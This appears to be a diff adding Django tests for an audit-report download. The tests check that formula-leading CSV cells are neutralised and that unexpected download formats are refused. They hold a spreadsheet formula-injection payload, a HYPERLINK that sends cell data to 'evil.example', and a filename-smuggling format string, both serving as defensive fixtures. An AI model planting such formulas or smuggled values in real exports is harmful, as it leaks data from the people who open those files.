@@ -1,8 +1,14 @@
 from __future__ import annotations
 
+import csv
+import io
+
+import pytest
 from django.urls import reverse
 
+from matching.models import AuditGroup
 from portal.models import AuditEvent
+from tests.factories import audit_run_rows
 
 
 def test_org_admin_sees_threshold_advice_from_the_latest_audit(client, dana, audit_run):
@@ -64,3 +70,43 @@ def test_the_audit_report_page_and_downloads(client, bob, audit_run, charlie):
     assert json_body["run"]["id"] == audit_run.pk
     client.force_login(charlie)
     assert client.get(reverse("matching:audit_report", args=[audit_run.pk])).status_code == 404
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_audit_csv_download_defuses_cells_a_spreadsheet_would_run(client, bob, org, start):
+    # given: an evaluation set whose uploader named a column with a formula, so that it leads a group key
+    run = audit_run_rows(org)
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")=White'
+    AuditGroup.objects.filter(run=run).update(key=formula)
+    client.force_login(bob)
+
+    # when: a reviewer downloads the report as CSV
+    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))
+
+    # then: the cell is text, quoted, and nothing else changed
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert response.status_code == 200
+    assert rows[1][0] == f"'{formula}"
+    assert rows[1][1:4] == ["2", "4", "4"]
+
+
+def test_the_audit_csv_download_leaves_plain_cells_alone(client, bob, org):
+    run = audit_run_rows(org)
+    AuditGroup.objects.filter(run=run).update(key="race=White & age_group=18 and over")
+    client.force_login(bob)
+
+    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))
+
+    assert list(csv.reader(io.StringIO(response.content.decode())))[1][0] == "race=White & age_group=18 and over"
+
+
+@pytest.mark.parametrize("fmt", ["html", "exe", "CSV", 'csv";filename="report.exe', "json.html"])
+def test_the_audit_download_serves_only_csv_and_json(client, bob, org, fmt):
+    run = audit_run_rows(org)
+    client.force_login(bob)
+
+    response = client.get(f"/audits/runs/{run.pk}/download.{fmt}")
+
+    assert response.status_code == 404
+    assert "Content-Disposition" not in response
+    assert not AuditEvent.objects.filter(action="audit.export").exists()
